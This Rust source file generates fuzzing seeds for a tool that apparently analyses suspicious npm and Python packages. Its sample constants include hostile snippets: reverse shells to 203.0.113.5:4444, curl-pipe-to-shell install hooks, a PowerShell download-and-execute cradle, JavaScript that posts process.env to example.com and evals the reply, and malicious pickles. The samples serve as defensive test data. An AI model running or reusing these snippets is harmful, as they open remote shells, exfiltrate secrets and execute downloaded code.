//! What fuzzing begins with: small inputs of every form that a target reads, so that a mutation lands behind the first
//! check. Made here, harmless, the same every time.

use std::io::Write as _;
use std::sync::Arc;
use std::time::Duration;

use cerebro::behavior::Reading;
use cerebro::case::Case;
use cerebro::config::Keymap;
use cerebro::package::{self, OpenOptions};
use cerebro::sandbox::protocol::{self, Found, Given, Reply, Request};
use cerebro::sandbox::{Outcome, Task};
use cerebro::syntax::beautify::{Format, beautify};
use cerebro::text::Source;
use tar::EntryType;

use crate::common::archives::{aes_zip, append, append_link, gzip, old_zip, tar, tgz, zip};
use crate::common::constant_model;

const NPM: [(&str, &[u8]); 3] = [
    (
        "package/package.json",
        br#"{"name": "demo", "version": "1.0.0", "main": "a.js", "scripts": {"postinstall": "node a.js"}}"#,
    ),
    ("package/a.js", b"require('child_process').exec('id')\n"),
    ("package/lib/b.txt", b"text\n"),
];
const WHEEL: [(&str, &[u8]); 4] = [
    ("demo/__init__.py", b"import os\nos.system('id')\n"),
    ("demo-1.0.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0.0\n"),
    ("demo-1.0.0.dist-info/RECORD", b"demo/__init__.py,,\n"),
    ("demo-1.0.0.dist-info/entry_points.txt", b"[console_scripts]\ndemo = demo:main\n"),
];
const PYTHON: [&str; 12] = [
    "import os, base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgiaWQiKQ=='))\n",
    "from setuptools import setup\nfrom setuptools.command.install import install\nclass run(install):\n    def run(self):\n        install.run(self)\n        __import__('os').system('curl http://example.com | sh')\nsetup(name='demo', cmdclass={'install': run})\n",
    "def f(x, *, y=1, **z):\n    if x > 2 and not y:\n        return [a for a in range(10) if a % 2]\n    return f(x - 1)\nprint(f(3))\n",
    "x = ''.join(map(chr, [105, 100]))\ntry:\n    eval(x)\nexcept Exception as e:\n    raise ValueError from e\nfinally:\n    pass\n",
    "match x:\n    case {'a': [1, *r], **k} if r: pass\n    case A(b=c) | None: pass\n    case _: pass\n",
    "import zlib as z, sys\nd = lambda s: z.decompress(s[::-1])\nwith open(__file__) as f:\n    t = f.read()\nfor i, c in enumerate(t): t = t.replace(c, '%s' % i)\n",
    "# -*- coding: utf-7 -*-\n+AGkAbQBwAG8AcgB0- os\n",
    "@d\nclass A(B, metaclass=C):\n    x: int = 1\n    async def g(self):\n        async with a as b: yield await b\n",
    "print 'hello'\nexec 'x' in {}\nraise E, 'x'\n`y`\nx <> y\n",
    "f'{x!r:>{w}} {y=}' rb'\\x00' u'\\N{BULLET}' 0x_ff 1e9j\n",
    "import socket, subprocess\ns = socket.socket(); s.connect(('203.0.113.5', 4444))\nsubprocess.call(['/bin/sh', '-i'], stdin=s.fileno())\n",
    "globals()['__builtins__'].__dict__['ev' + 'al'](getattr(__import__('codecs'), 'decode')('vq', 'rot13'))\n",
];
const JAVASCRIPT: [&str; 14] = [
    "\0const { exec } = require('child_process'); exec(Buffer.from('aWQ=', 'base64').toString())\n",
    "\0var _0x1=['log','id'];(function(a,n){while(--n){a.push(a.shift())}}(_0x1,3));var f=function(i){return _0x1[i-0]};console[f('0x0')](f(1))\n",
    "\0eval(String.fromCharCode(...[105,100].map(c => c ^ 0)))\n",
    "\0[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]]\n",
    "\0class A extends B { #p = 1; static async *g() { yield* this.#p ?? x?.y } get z() { return /a[/]b/gi } }\n",
    "\x01enum E { A = 1 } interface I<T extends object> { a?: T }\nexport type X = `a${string}`; let x = <any>y as unknown\n",
    "\x02const C = () => <div className={`a ${b}`}>{...c}<></></div>\n",
    "\x03import a, { b as c } from 'fs'; export * from './x'; export default async function () { for await (const d of e) ; }\n",
    "\0label: for (let i = 0; i < 3; i++) { switch (i) { case 1: continue label; default: break } }\n",
    "\0try { throw { a: [1, , 2] } } catch { } finally { with (x) y }\n",
    "\0fetch('https://example.com', { method: 'POST', body: JSON.stringify(process.env) }).then(r => r.text()).then(eval)\n",
    "\0<!-- x\nvar a = 010 + 0b1_0n; a ||= b &&= c; 'use strict'\n",
    "\0new Function('return process')().mainModule.require('fs').writeFileSync('/tmp/x', atob('eA=='))\n",
    "\0a<b,c<d,e<f>(g)\n",
];
const SHELL: [&str; 10] = [
    "curl -sL http://example.com/a | bash -s -- x && rm -f a\n",
    "node -e \"require('http').get('http://example.com')\" ; python3 -c 'import os;os.system(\"id\")'\n",
    "if [ -f a ]; then for i in $(ls); do echo ${i%%.*}; done; else cat <<E | sh\n$X\nE\nfi\n",
    "a=$'\\x41'; b=\"${a:0:1}\"; eval \"$b$(echo aWQ= | base64 -d)\" > /dev/null 2>&1 &\n",
    "@echo off\nset a=cu\n%a%rl http://example.com -o %TEMP%\\a.exe & start /b %TEMP%\\a.exe\n",
    "for /f \"tokens=1\" %%i in ('dir /b') do @call :x %%~ni\n:x\nif exist %1 (del /q %1) else goto :eof\n",
    "find . -name '*.js' -exec sh -c 'node \"$1\"' _ {} \\; | xargs -n1 kill -9\n",
    "powershell -nop -w hidden -enc aQBkAA==\n",
    "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
    "f() { local x=(a b); case $1 in a|b) echo \"${x[@]}\";; *) ((y++));; esac; }; f {1..3}\n",
];
const POWERSHELL: [&str; 6] = [
    "IEX (New-Object Net.WebClient).DownloadString('http://example.com/a')\n",
    "$a = [char[]](105,100) -join ''; & $a; \"$($a.Length) ${env:TEMP}\"\n",
    "[System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aQBkAA==')) | iex\n",
    "function f([string]$x) { foreach ($i in 1..3) { if ($i -gt 1) { Start-Process ($x -replace 'a','b') -WindowStyle Hidden } } }\n",
    "'{1}{0}' -f 'd','i' | %{ $_ } | ?{ $_ -match '^i' }\n@'\nhere\n'@ <# c #>\n",
    "try { Add-Type -TypeDefinition 'x' } catch [Exception] { throw } finally { }\n",
];
const GYP: [&str; 4] = [
    "{'targets': [{'target_name': 'a', 'sources': ['<!@(node a.js)'], 'actions': [{'action_name': 'x', 'action': ['node', 'a.js']}]}]}",
    "{'variables': {'v%': '<!(echo a)'}, 'conditions': [['OS==\"win\"', {'x': '>(v)'}, {'y': '^!(sh)'}]], 'includes': ['more.gypi'],} # c\n",
    "{'a': 'b' \"c\" '''d''', 'l': [1, -2, None, True, (3,)], 'rules': [{'rule_name': 'r', 'action': ['<!pymod_do_main(a b)']}]}",
    "{'target_defaults': {'cflags+': [], 'dependencies!': ['x.gyp:y']}, 'make_global_settings': [['CC', '<!(sh)']], 'postbuilds': [{'action': ['sh']}]}",
];
const MANIFESTS: [&str; 7] = [
    "\0{\"name\":\"demo\",\"version\":\"1.0.0\",\"main\":\"./index\",\"bin\":{\"a\":\"index.js\"},\"exports\":{\".\":{\"import\":\"./index.js\"},\"./*\":\"./*.js\"},\"scripts\":{\"install\":\"node index.js\"},\"dependencies\":{\"a\":\"git+https://example.com/a\"},\"bundleDependencies\":true}",
    "\x01Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nSummary: x\nHome-page: https://example.com\nRequires-Dist: a (>=1) ; extra == 'b'\n\nbody\n",
    "\x02[build-system]\nrequires = ['a']\nbuild-backend = 'b:c'\nbackend-path = ['.']\n[project]\nname = 'demo'\nversion = '1.0'\ndynamic = ['readme']\n[project.scripts]\nx = 'demo:main'\n[tool.poetry.build]\nscript = 'setup.py'\n",
    "\x03[metadata]\nname = demo\nversion = attr: demo.x\n[options]\ninstall_requires =\n  a\n  b\n[options.entry_points]\nconsole_scripts =\n  x = demo:y\n[global]\ncommand_packages = demo\n",
    "\x04[console_scripts]\nx = demo:main [extra]\n\n[distutils.commands]\ny = demo:Z\n",
    "\x05import os; os.system('id')\n../x\n",
    "\0{\"a\": [1, 2.5e3, null, true, \"\\u00e9\\ud83d\\ude00\"], \"scripts\": {\"preinstall\": \"a\", \"preinstall\": \"b\"}}",
];
const CONFIGS: [&str; 4] = [
    "theme = \"dark\"\nmouse = false\nmodel = \"models/x\"\n\n[keys.anywhere]\nctrl-x = \"quit\"\nq = \"none\"\n\n[colors.ui]\n",
    "[keys.source]\n\"F2\" = \"help\"\nalt-enter = \"open\"\n[colors.code]\nkeyword = { fg = \"#ff0000\", bold = true }\n",
    "theme = 7\nwhat = [1]\n[keys]\nx = 1\n[colors]\ny = \"red\"\n",
    "[keys.anywhere\n= \n\"\\u202e\" = \"quit\"\n",
];
const FEEDS: [&str; 2] = [
    "{\"path\":\"a/b.tgz\",\"name\":\"demo\",\"version\":\"1.0\",\"ecosystem\":\"npm\",\"published\":\"2026-11-20T18:01:00Z\"}\n{\"path\":\"c\",\"sha256\":\"5a\"}\n",
    "not json\n[]\n{\"path\":7,\"source\":null}\n\n{\"path\":\"x\",\"ecosystem\":\"gem\"}",
];
const EXTERNAL: [&str; 8] = [
    r#"{"issues":1,"results":{"r":[{"location":"send.js:2","message":"m","severity":"high"}],"t":"said"},"risk_score":{"score":8.5,"label":"malicious"},"risks":[{"threat_rule":"r","threat_location":"x/send.js:2","threat_match":"process.env"}]}"#,
    r#"{"version":"2.1.0","runs":[{"tool":{"driver":{"name":"t","rules":[{"id":"a","defaultConfiguration":{"level":"error"}}]}},"results":[{"ruleId":"a","message":{"text":"m"},"locations":[{"physicalLocation":{"artifactLocation":{"uri":"file:///x/send%2Ejs"},"region":{"startLine":1,"startColumn":7,"endLine":2,"endColumn":9}}}]}]}]}"#,
    r#"{"path":"send.js","rules":[{"identifier":"r","strings":[{"identifier":"$a","offset":6,"match":"https ... 40 more bytes"}]}]}
{"path":"send.js","rules":[]}"#,
    r#"{"Files":{"send.js":{"Path":"send.js","RiskScore":4,"RiskLevel":"CRITICAL","Behaviors":[{"MatchStrings":["https.get"],"RiskScore":4,"ID":"x"}]}}}"#,
    r#"{"Package":{},"Analysis":{"install":{"Status":"completed","Files":[{"Path":"/root/.npmrc","Read":true,"Write":true,"Delete":true}],"Sockets":[{"Address":"::1","Port":443,"Hostnames":["collect.example.com"]}],"Commands":[{"Command":["node","send.js"]}],"DNS":[{"Queries":[{"Hostname":"a.invalid"}]}]}}}"#,
    r#"{"name":"demo","time":{"1.0.0":"2026-01-02T03:04:05.678Z","0.9.0":"2025-01-02T03:04:05Z"},"maintainers":[{"name":"a"}],"versions":{"0.9.0":{"_npmUser":{"name":"b"}},"1.0.0":{"scripts":{"postinstall":"node x.js"},"_npmUser":{"name":"c"},"dependencies":{"d":"1"},"dist":{"integrity":"sha512-AAAA","shasum":"00"}}}}"#,
    r#"{"info":{"name":"demo","version":"1.0.0","requires_dist":["a>=1"]},"urls":[],"releases":{"1.0.0":[{"filename":"demo-1.0.0.tgz","upload_time":"2026-01-02T03:04:05","digests":{"sha256":"00"},"yanked":true}]},"ownership":{"roles":[{"user":"a"}]}}"#,
    r#"{"attestation_bundles":[{"publisher":{"kind":"GitHub","repository":"a/b"},"attestations":[{"envelope":{"statement":"eyJzdWJqZWN0IjpbeyJuYW1lIjoiZGVtby0xLjAuMC50Z3oiLCJkaWdlc3QiOnsic2hhMjU2IjoiMDAifX1dfQ=="}}]}]}"#,
];
const EVENTS: &str = r#"{"time":"2026-11-20T18:01:00Z","actor":"ann","tool":"0.3.0","kind":"labelled","sha256":"5a","filename":"a.tgz","size":3,"ecosystem":"npm","name":"demo","version":"1.0","label":"malicious","text":{"text":"run","pieces":[]},"reading":{"vocabulary":"extended","without":[]},"extractor":"1","files":[],"decode_chain":[]}
{"time":"2026-11-20T18:01:00Z","actor":"ann","tool":"0.3.0","kind":"span_marked","sha256":"5a","path":"package/a.js","file_sha256":"77","bytes":{"start":3,"end":9},"text_sha256":"ee","text_bytes":4,"role":"payload","features":["P4"]}
{"time":"2026-11-20T18:01:00Z","actor":"ann","tool":"0.3.0","kind":"undone","event":2}
{"time":"2026-11-20T18:01:00Z","actor":"ann","tool":"0.3.0","kind":"passed_over","sha256":"5a","queued":{"order":"mixed","why":"drawn"}}
{"time":"2026-11-20T18:01:00Z","actor":"ann","tool":"0.3.0","kind":"span_removed","event":2}
"#;

/// The seeds of a target.
pub fn of(name: &str) -> Vec<Vec<u8>> {
    match name {
        "tar" => tars(),
        "zip" => zips(),
        "compressed" => packed(),
        "text" => texts(),
        "python" => bytes(&PYTHON),
        "javascript" => bytes(&JAVASCRIPT),
        "shell" => bytes(&SHELL),
        "powershell" => bytes(&POWERSHELL),
        "gyp" => bytes(&GYP),
        "manifest" => bytes(&MANIFESTS),
        "serialized" => serialized(),
        "decoders" => encoded(),
        "config" => {
            let all = cerebro::config::sample(&Keymap::built_in().unwrap()).replace("\n#", "\n");
            [bytes(&CONFIGS), vec![all.into_bytes()]].concat()
        }
        "feed" => bytes(&FEEDS),
        "external" => bytes(&EXTERNAL),
        "ledger" => ledgers(),
        "model" => models(),
        "worker" => answers(),
        "view" => [
            led(&[0], &PYTHON),
            JAVASCRIPT
                .iter()
                .map(|code| code.as_bytes().iter().map(|byte| byte + u8::from(*byte < 4)).collect())
                .collect(),
            led(&[4], &SHELL[..3]),
            led(&[5], &POWERSHELL[..3]),
            led(&[6, 7, 8, 9], &MANIFESTS[..2]),
        ]
        .concat(),
        other => panic!("no target is called {other}"),
    }
}

/// Words of a target's language.
pub fn words(name: &str) -> Vec<&'static str> {
    let texts: &[&str] = match name {
        "python" => &PYTHON,
        "javascript" => &JAVASCRIPT,
        "shell" => &SHELL,
        "powershell" => &POWERSHELL,
        "gyp" => &GYP,
        "manifest" => &MANIFESTS,
        "config" => &CONFIGS,
        "external" => &EXTERNAL,
        "text" => {
            &["utf-7", "unicode_escape", "iso2022_jp", "hz", "gb18030", "johab", "cp932", "# coding:", "\u{FEFF}"]
        }
        _ => &[],
    };
    let mut words: Vec<&str> = texts.iter().flat_map(|text| text.split_inclusive([' ', '(', '.', '\n'])).collect();
    words.sort_unstable();
    words.dedup();
    words
}

fn bytes(texts: &[&str]) -> Vec<Vec<u8>> {
    texts.iter().map(|text| text.as_bytes().to_vec()).collect()
}

/// Each text behind each first byte.
fn led(first: &[u8], texts: &[&str]) -> Vec<Vec<u8>> {
    first.iter().flat_map(|byte| texts.iter().map(|text| [&[*byte], text.as_bytes()].concat())).collect()
}

fn tars() -> Vec<Vec<u8>> {
    let mut odd = tar::Builder::new(Vec::new());
    odd.append_pax_extensions([("path", &b"package/long.js"[..]), ("size", b"3"), ("comment", b"x")]).unwrap();
    append(&mut odd, "package/l.js", EntryType::Regular, b"abc");
    append(&mut odd, "././@LongLink", EntryType::GNULongName, b"package/a/very/long/name.js\0");
    append(&mut odd, "package/n.js", EntryType::Regular, b"n");
    append(&mut odd, "package/g", EntryType::XGlobalHeader, b"18 path=package/g\n");
    append(&mut odd, "package/dir", EntryType::Directory, b"");
    append_link(&mut odd, "package/s.js", "l.js", EntryType::Symlink);
    append_link(&mut odd, "package/h.js", "package/l.js", EntryType::Link);
    append(&mut odd, "package/sparse", EntryType::GNUSparse, b"");
    append(&mut odd, "package/fifo", EntryType::Fifo, b"");
    vec![
        tar(&NPM),
        odd.into_inner().unwrap(),
        tar(&[("demo-1.0.0/PKG-INFO", b"Name: demo\nVersion: 1.0.0\n"), ("demo-1.0.0/setup.py", b"x=1\n")]),
    ]
}

fn zips() -> Vec<Vec<u8>> {
    let around = [zip(&WHEEL), aes_zip(&[("a.tgz", &tgz(&NPM))], "infected"), old_zip(&WHEEL, "infected")];
    let twice = [zip(&WHEEL), zip(&NPM)].concat();
    [around.to_vec(), vec![zip(&[("demo.tgz", &tgz(&NPM))]), twice, [b"MZ".to_vec(), zip(&WHEEL)].concat()]].concat()
}

fn packed() -> Vec<Vec<u8>> {
    let plain = tar(&NPM);
    let mut bz = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::fast());
    bz.write_all(&plain).unwrap();
    let mut xz = lzma_rust2::XzWriter::new(Vec::new(), lzma_rust2::XzOptions::with_preset(1)).unwrap();
    xz.write_all(&plain).unwrap();
    let options = lzma_rust2::LzmaOptions::with_preset(1);
    let mut lzma = lzma_rust2::LzmaWriter::new_use_header(Vec::new(), &options, None).unwrap();
    lzma.write_all(&plain).unwrap();
    // A frame of one raw block of zstd.
    let mut zstd = vec![0x28, 0xB5, 0x2F, 0xFD, 0xA0];
    zstd.extend(u32::try_from(plain.len()).unwrap().to_le_bytes());
    zstd.extend(u32::try_from(plain.len() << 3 | 1).unwrap().to_le_bytes()[..3].iter());
    zstd.extend(&plain);
    let members = [gzip(&plain[..1024]), gzip(&plain[1024..])].concat();
    vec![gzip(&plain), members, bz.finish().unwrap(), xz.finish().unwrap(), lzma.finish().unwrap(), zstd]
}

fn texts() -> Vec<Vec<u8>> {
    let code = "x = 'é' # \u{202E}\r\nimport os\rprint(1)\n";
    let cookies = [
        "utf-7",
        "unicode_escape",
        "iso2022_jp",
        "hz",
        "gb18030",
        "johab",
        "cp932",
        "big5hkscs",
        "koi8_r",
        "rot13",
        "utf-16",
        "no-such",
    ];
    let mut all: Vec<Vec<u8>> = cookies
        .iter()
        .map(|cookie| format!("# coding: {cookie}\nx = '\\u0041+AGk-~{{<:~}}\x1b$B0!\x1b(B'\n").into_bytes())
        .collect();
    let wide = code.encode_utf16().flat_map(u16::to_le_bytes);
    all.push([0xFF, 0xFE].into_iter().chain(wide).collect());
    all.push([b"\xEF\xBB\xBF", code.as_bytes()].concat());
    all.push(b"\x80\xE9\xC3\xA9\xED\xA0\x80\xF0\x9F\x98\x80\0".to_vec());
    all
}

fn serialized() -> Vec<Vec<u8>> {
    vec![
        b"cos\nsystem\n(S'id'\ntR.".to_vec(),
        b"\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."
            .to_vec(),
        b"\x80\x02}q\0(K\x01]q\x01(I1\nL2L\nU\x03abceX\x01\0\0\0au.".to_vec(),
        [&b"\xa7\r\r\n\0\0\0\0\0\0\0\0\0\0\0\0"[..], &code()].concat(),
        code(),
        b"\xe3\x01\0\0\0\xfa\x02id\xa9\x02r\0\0\0\0Nz\x01a\xf5\x03\0\0\0abc\xe9\x05\0\0\0l\x02\0\0\0\x01\0\x02\0"
            .to_vec(),
    ]
}

/// A marshalled code object of Python 3.12: `import os`.
fn code() -> Vec<u8> {
    let text = |text: &str| [&[0xDA, u8::try_from(text.len()).unwrap()], text.as_bytes()].concat();
    let bytes = |bytes: &[u8]| [&[b's'][..], &u32::try_from(bytes.len()).unwrap().to_le_bytes(), bytes].concat();
    let mut out = vec![0xE3];
    out.extend([0_u32, 0, 0, 2, 0].iter().flat_map(|number| number.to_le_bytes()));
    out.extend(bytes(b"\x97\0d\0d\x01l\0Z\0y\x01"));
    out.extend(b"\xA9\x02\xE9\0\0\0\0N");
    out.extend([&b"\xA9\x01"[..], &text("os"), b"\xA9\0"].concat());
    out.extend([text("a.py"), text("<module>"), text("<module>"), vec![b'i', 1, 0, 0, 0]].concat());
    out.extend([bytes(b""), bytes(b"")].concat());
    out
}

fn encoded() -> Vec<Vec<u8>> {
    bytes(&[
        "aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ==",
        "696d706f7274206f73",
        "\\x69\\u006d\\160\\n",
        "[105, 109, 0x70, chr(111)]",
        "vzcbeg bf",
        "%69%6D&#112;&amp;",
        "NFXGG3DVMRSSA43UMQ======",
        "<~87cURD]i,\"Ebo80~>",
        "xor 0x5a",
        "exec(base64.b64decode('eJwrSCwqTgUACsoC8Q=='))",
        "'a' + \"b\" 'c'",
        "so tropmi",
    ])
    .into_iter()
    .chain([gzip(b"import os"), tgz(&NPM), "\u{FE01}\u{E0169}\u{E006D}".into()])
    .collect()
}

fn ledgers() -> Vec<Vec<u8>> {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("ledger.sqlite");
    drop(cerebro::ledger::Ledger::open(&path, "ann").unwrap());
    let file = std::fs::read(&path).unwrap();
    let head = br#"{"events":2,"hash":"5a","stamp":null,"checkpoint":null}"#;
    vec![[&[0], file.as_slice()].concat(), [&[1], EVENTS.as_bytes()].concat(), [&[2], &head[..]].concat()]
}

fn models() -> Vec<Vec<u8>> {
    let folder = tempfile::tempdir().unwrap();
    let model = constant_model::model(folder.path(), 1.0);
    let file = |kind: u8, name: &str| [vec![kind], std::fs::read(model.join(name)).unwrap()].concat();
    let linear = br#"{"bias":0.1,"words":{"run":0.5},"scale":1.0}"#;
    let card = br#"{"threshold":0.5,"scale":1.0,"window":16,"linear":0.5}"#;
    vec![
        file(0, "tokenizer.json"),
        file(1, "config.json"),
        file(2, "model.safetensors"),
        [&[3], &linear[..]].concat(),
        [&[4], &card[..]].concat(),
    ]
}

fn answers() -> Vec<Vec<u8>> {
    let open = || Arc::new(package::open_bytes("demo-1.0.0.tgz", tgz(&NPM), &OpenOptions::default()).unwrap());
    let mut answer = Vec::new();
    protocol::send(&mut answer, &Reply::Opened(open())).unwrap();
    let case = Case::read(open(), Duration::ZERO, &Reading::default());
    protocol::send(&mut answer, &Reply::Read(Box::new(Found::new(case)))).unwrap();
    let mut request = Vec::new();
    let reading = Some(Reading::default());
    protocol::send(&mut request, &Request::Package { given: Given::Open(open()), reading }).unwrap();
    let text = Arc::new(Source::new("a=1;b=[2]".to_owned()));
    let task = Task::Color { text: 0, given: Some(("a.js".to_owned(), Arc::clone(&text))), lines: vec![(1, 0..9)] };
    let mut asked = Vec::new();
    protocol::send(&mut asked, &Request::Task(task)).unwrap();
    let format = Format::of("a.js", &text.text).unwrap();
    let laid_out = Outcome::Beautified(Some((format, beautify(&text.text, format))));
    let mut done = Vec::new();
    protocol::send(&mut done, &Reply::Done(laid_out)).unwrap();
    vec![answer, request, asked, done]
}
